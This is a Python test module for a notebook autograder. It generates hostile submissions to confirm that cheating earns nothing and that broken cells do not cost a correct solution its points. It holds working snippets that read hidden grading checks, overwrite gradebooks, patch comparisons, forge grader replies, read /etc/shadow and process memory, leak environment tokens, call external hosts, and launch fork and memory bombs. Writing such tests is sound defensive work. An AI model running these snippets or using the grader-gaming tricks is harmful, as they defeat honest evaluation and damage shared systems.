"""Submissions that try to get points without answers, or to do harm.

Most attack from a notebook without answers, which deserves nothing. `{name}` is the function
that the first question asks for. A second series puts a cell that breaks the kernel into a
solved notebook: the answers must keep their points.
"""

from collections.abc import Iterator

from nbformat.v4 import new_code_cell

from grader.release import ROOT, Definition
from grader.trials.hostile import hostile
from grader.trials.notebooks import answer_cell, blank, dump, everything, replaced, solved
from grader.trials.trial import Trial

# Writes to every descriptor that could be the reply channel.
SEND = """
import os
def send(message):
    for number in range(3, 64):
        try:
            view = memoryview(message)
            while view:
                view = view[os.write(number, view) :]
        except OSError:
            pass
"""
# What stands in the answer cell instead of an answer; each deserves 0 for its question.
FORGERIES = {
    "reads the checks": """
import sys
sys.path.insert(0, "{root}")
def {name}(*args, **kwargs):
    space = {{}}
    exec(open("{root}/assignments/{assignment}/checks.py").read(), space)
    return space["ASSIGNMENT"].graded[0].reference(*args, **kwargs)
""",
    "imports the checks": """
import importlib, sys
sys.path.insert(0, "{root}")
def {name}(*args, **kwargs):
    checks = importlib.import_module("assignments.{assignment}.checks")
    return checks.ASSIGNMENT.graded[0].reference(*args, **kwargs)
""",
    "looks for the checks in all files": """
import os
found = []
for folder, folders, files in os.walk("/"):
    if folder.startswith(("/proc", "/usr", "/lib", "/sys")) or "site-packages" in folder:
        folders.clear()
    for file in files:
        if file in ("checks.py", "seed.txt", "gradebook.db", "journal.jsonl", "source.md"):
            found.append(os.path.join(folder, file))
def {name}(*args, **kwargs):
    space = {{}}
    checks = [f for f in found if f.endswith("{assignment}/checks.py")]
    exec(open(checks[0]).read(), space)
    return space["ASSIGNMENT"].graded[0].reference(*args, **kwargs)
""",
    "writes into every gradebook it finds": """
import glob, os, sqlite3
for root in ("{root}", "/root", "/home", "/tmp", "/srv", "/work", ".", ".."):
    for path in glob.glob(root + "/**/*.db", recursive=True):
        try:
            with sqlite3.connect(path) as base:
                base.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
        except Exception:
            pass
def {name}(*args, **kwargs):
    return None
""",
    "patches NumPy's comparisons": """
import numpy as np
class Yes:
    def __call__(self, *args, **kwargs): return True
for module in (np, np.testing):
    for attribute in ("allclose", "isclose", "array_equal", "assert_allclose", "abs", "all", "any"):
        if hasattr(module, attribute):
            setattr(module, attribute, Yes())
def {name}(*args, **kwargs):
    return np.zeros((3, 3))
""",
    "returns an object that equals everything": """
class Right:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __array__(self, *args, **kwargs): raise SystemExit
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __iter__(self): return iter(())
    def __reduce__(self): return (print, ("unpickled",))
def {name}(*args, **kwargs):
    return Right()
""",
    "replaces the runner": """
import gc, sys
for thing in gc.get_objects():
    if type(thing).__name__ == "Runner":
        type(thing).call = lambda self, command: {{"value": None, "passed": True, "points": 100}}
        type(thing).has = lambda self, command: {{"has": True, "points": 100, "human": ""}}
for module in list(sys.modules.values()):
    if hasattr(module, "grade"):
        module.grade = lambda *args: 100
def {name}(*args, **kwargs):
    return None
""",
    "replaces IPython's hooks": """
shell = get_ipython()
shell.events.register("post_run_cell", lambda *args: None)
shell.run_cell = lambda *args, **kwargs: type("R", (), {{"success": True, "error_in_exec": None,
    "error_before_exec": None, "result": True}})()
shell.user_ns["__builtins__"] = {{}}
def {name}(*args, **kwargs):
    return True
""",
    "forges replies on every descriptor": SEND
    + """
import json, struct
text = json.dumps({{"value": 1.0, "passed": True, "points": 100, "nonce": "0" * 32}}).encode()
body = struct.pack(">I", len(text)) + text
def {name}(*args, **kwargs):
    send(struct.pack(">Q", len(body)) + body)
    return None
""",
    "forges a reply that carries the nonce": SEND
    + """
import sys
def {name}(*args, **kwargs):
    frame = sys._getframe()
    while frame is not None and "command" not in frame.f_locals:
        frame = frame.f_back
    command = frame.f_locals["command"]
    wire = sys.modules["wire"]
    send(wire.frame({{"nonce": command["nonce"], "value": True, "points": 100, "ok": True}}))
    os._exit(0)
""",
    "sends an array for the nonce": SEND
    + """
import sys
import numpy as np
def {name}(*args, **kwargs):
    send(sys.modules["wire"].frame({{"nonce": np.arange(3), "value": 1.0}}))
    os._exit(0)
""",
    "describes an error by arrays": SEND
    + """
import gc, sys
import numpy as np
kinds = [thing for thing in gc.get_objects() if type(thing) is dict]
command = next(thing for thing in kinds if thing.get("do") == "cell" and "nonce" in thing)
error = {{"type": np.arange(3), "message": "\\ud800" * 10**6, "line": [1]}}
send(sys.modules["wire"].frame({{"nonce": command["nonce"], "error": error}}))
os._exit(0)
""",
    "raises an error that cannot be printed": """
raise type("\\ud800\\x1b[2J", (Exception,), {{}})("\\ud800 \\x00 <script>alert(1)</script>")
""",
    "answers with a million lists": """
def {name}(*args, **kwargs):
    return [[]] * 1_000_000
""",
    "answers with keys of one hash": SEND
    + """
import json, struct, sys
def {name}(*args, **kwargs):
    frame = sys._getframe()
    while "command" not in frame.f_locals:
        frame = frame.f_back
    pairs = [[number * (2**61 - 1), 0] for number in range(60_000)]
    tree = {{"dict": [["nonce", frame.f_locals["command"]["nonce"]], ["value", {{"dict": pairs}}]]}}
    text = json.dumps(tree).encode()
    send(struct.pack(">QI", len(text) + 4, len(text)) + text)
""",
    "reads the memory of process 1": """
seen = []
for file in ("environ", "mem", "fd/0", "root/etc/passwd", "cwd/Makefile"):
    try:
        seen.append(open("/proc/1/" + file, "rb").read(4096))
    except OSError:
        pass
def {name}(*args, **kwargs):
    return repr(seen)
""",
    "looks for the answer in memory": """
import gc
def {name}(*args, **kwargs):
    for thing in gc.get_objects():
        if isinstance(thing, dict) and ("reference" in thing or "expected" in thing):
            return thing.get("expected", thing.get("reference"))
    return None
""",
    "looks for secrets in the environment": """
import os, sys
text = str([dict(os.environ), sys.argv, open("/proc/self/cmdline").read()]).lower()
leaked = [word for word in text.split() if "seed" in word or "token" in word]
def {name}(*args, **kwargs):
    return leaked[0]
""",
    "calls for help over the network": """
import socket, urllib.request
def {name}(*args, **kwargs):
    for address in (("127.0.0.1", 8786), ("127.0.0.1", 8787), ("10.0.0.1", 80), ("1.1.1.1", 53)):
        try:
            socket.create_connection(address, timeout=0.5).sendall(repr(args).encode())
            return "connected"
        except OSError:
            pass
    return urllib.request.urlopen("http://example.org/answer", timeout=1).read()
""",
    "tricks with symbolic links": """
import os
links = {{"checks.py": "{root}", "shadow": "/etc/shadow", "root": "/proc/1/root"}}
for link, target in links.items():
    try:
        os.symlink(target, link)
    except OSError:
        pass
def {name}(*args, **kwargs):
    try:
        return open("shadow").read()
    except OSError:
        return os.listdir("root/{root}/assignments")
""",
    "kills what it can": """
import os, signal
def {name}(*args, **kwargs):
    for number in (1, os.getppid(), -1):
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
    os.kill(os.getpid(), signal.SIGKILL)
""",
    "os._exit": """
import os
def {name}(*args, **kwargs):
    os._exit(0)
""",
    "sys.exit": """
import sys
def {name}(*args, **kwargs):
    sys.exit(0)
""",
    "escapes into the mounts": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
outcomes = [libc.unshare(0x10000000), libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
            libc.ptrace(16, 1, 0, 0), libc.setuid(0), libc.syscall(319, b"x", 0)]
def {name}(*args, **kwargs):
    return "free" if 0 in outcomes else None
""",
    "fills the disk": """
def {name}(*args, **kwargs):
    for folder in ("/tmp", "/dev/shm", "/home/student", "/"):
        for number in range(100):
            try:
                with open(f"{{folder}}/{{number}}", "wb") as file:
                    file.write(bytes(10_000_000))
            except OSError:
                break
    return None
""",
    "answers with a gigabyte": """
import numpy as np
def {name}(*args, **kwargs):
    return np.zeros(130_000_000)
""",
    "answers nested without end": """
def {name}(*args, **kwargs):
    answer = []
    answer.append(answer)
    return answer
""",
    "claims that its time on the clock is up": """
import os, signal
def {name}(*args, **kwargs):
    os.kill(os.getpid(), signal.SIGALRM)
""",
    "overflows the stack": """
import sys
def {name}(*args, **kwargs):
    sys.setrecursionlimit(10**9)
    return {name}(*args, **kwargs)
""",
    "overwrites memory": """
import ctypes
def {name}(*args, **kwargs):
    ctypes.memset(id(dict), 255, 100_000)
    return 1
""",
}
HEAVY_FORGERIES = {
    "infinite loop": """
def {name}(*args, **kwargs):
    while True:
        pass
""",
    "infinite loop that cannot be interrupted": """
import signal
def {name}(*args, **kwargs):
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""",
    "sleeps": """
import time
def {name}(*args, **kwargs):
    time.sleep(1e6)
""",
    "works in children that nobody waits for": """
import os, signal
def {name}(*args, **kwargs):
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    while True:
        try:
            child = os.fork()
        except OSError:
            continue
        if child == 0:
            sum(range(300_000))
            os._exit(0)
""",
    "fork bomb": """
import os
def {name}(*args, **kwargs):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
    "threads without end": """
import threading, time
def {name}(*args, **kwargs):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
""",
    "memory bomb": """
import numpy as np
def {name}(*args, **kwargs):
    kept = []
    while True:
        kept.append(np.ones(10_000_000))
""",
    "memory bomb in many processes": """
import os, time
def {name}(*args, **kwargs):
    for number in range(20):
        if os.fork() == 0:
            kept = bytearray(300_000_000)
            time.sleep(1000)
    time.sleep(1000)
""",
    "memory bomb, shared": """
import mmap, time
def {name}(*args, **kwargs):
    kept = []
    while True:
        block = mmap.mmap(-1, 100_000_000)
        block.write(b"x" * 100_000_000)
        kept.append(block)
""",
    "memory in mappings that no process has": """
import mmap
def {name}(*args, **kwargs):
    kept = []
    while len(kept) < 30:
        block = mmap.mmap(-1, 100_000_000)
        for start in range(0, 98_304_000, 4_096_000):
            block[start : start + 4_096_000] = bytes(4_096_000)
            block.madvise(mmap.MADV_DONTNEED, start, 4_096_000)
        kept.append(block)
""",
    "memory in sockets": """
import os, socket, time
def {name}(*args, **kwargs):
    for number in range(20):
        if os.fork() == 0:
            break
    kept = []
    while True:
        try:
            kept.append(socket.socketpair())
            kept[-1][0].setblocking(False)
            while True:
                kept[-1][0].send(bytes(65536))
        except OSError:
            pass
""",
    "memory in page tables": """
import ctypes
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
def {name}(*args, **kwargs):
    size = 4 << 40
    start = libc.mmap(None, ctypes.c_size_t(size), 1, 0x4022, -1, ctypes.c_long(0))
    libc.madvise(ctypes.c_void_p(start), ctypes.c_size_t(size), 15)
    for place in range(0, size, 2 << 20):
        ctypes.c_char.from_address(start + place).value
""",
    "prints a gigabyte": """
def {name}(*args, **kwargs):
    while True:
        print("x" * 1_000_000)
""",
}
# Whether code waits or the machine was busy, only a person can tell.
WAITING = {"sleeps", "claims that its time on the clock is up"}
# Cells put into a solved notebook, which keeps all its points.
BREAKERS = {
    "a cell raises": "1 / 0",
    "a cell calls sys.exit": "import sys\nsys.exit(1)",
    "a cell calls os._exit": "import os\nos._exit(1)",
    "a cell kills the kernel": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    "a cell asks for input": "answer = input('Your name? ')",
    "a cell has a syntax error": "def broken(:\n    pass",
    "a cell installs a package": "!pip install --quiet somepackage\n%pip install another",
    "a cell closes all descriptors": "import os\nos.closerange(0, 1000)",
    "a cell redirects the output": "import sys, io\nsys.stdout = sys.stderr = io.StringIO()",
    "a cell mounts a drive": "from google.colab import drive\ndrive.mount('/content/drive')",
}
HEAVY_BREAKERS = {
    "a cell loops": "while True:\n    pass",
    "a cell sleeps": "import time\ntime.sleep(1e6)",
    "a cell prints forever": "while True:\n    print('again ' * 1000)",
    "a cell eats the memory": "kept = []\nwhile True:\n    kept.append(np.ones(10**7))",
    "a cell forks forever": "import os\nwhile True:\n    os.fork()",
}


def _forgeries(definition: Definition) -> Iterator[Trial]:
    empty, question = blank(definition), definition.assignment.graded[0]
    for heavy, group in ((False, FORGERIES), (True, HEAVY_FORGERIES)):
        for name, code in group.items():
            text = code.format(name=question.name, assignment=definition.name, root=ROOT)
            content = dump(replaced(empty, question.id, text.strip()))
            human = True if name in WAITING else None
            yield Trial("attacks", name, content, everything(definition), human, heavy)


def _breakers(definition: Definition) -> Iterator[Trial]:
    first = definition.assignment.graded[0]
    for heavy, group in ((False, BREAKERS), (True, HEAVY_BREAKERS)):
        for name, code in group.items():
            notebook = solved(definition)
            place = notebook.cells.index(answer_cell(notebook, first.id))
            notebook.cells.insert(place + 2, new_code_cell(code))
            yield Trial("attacks", f"solved, and {name}", dump(notebook), heavy=heavy)


def _crashes(definition: Definition) -> Iterator[Trial]:
    """Yield solved notebooks in which one question's own cell ends the kernel."""
    last = definition.assignment.graded[-1]
    for name, code in (("dies", "import os\nos._exit(3)"), ("raises", "raise ValueError")):
        notebook = replaced(solved(definition), last.id, code)
        lost = {last.id: last.points}
        yield Trial("attacks", f"the cell of {last.id} {name}", dump(notebook), lost, True)


def attacks(definition: Definition) -> Iterator[Trial]:
    """Yield the attacks on an assignment."""
    yield from _forgeries(definition)
    yield from _breakers(definition)
    yield from _crashes(definition)
    yield from hostile(definition)
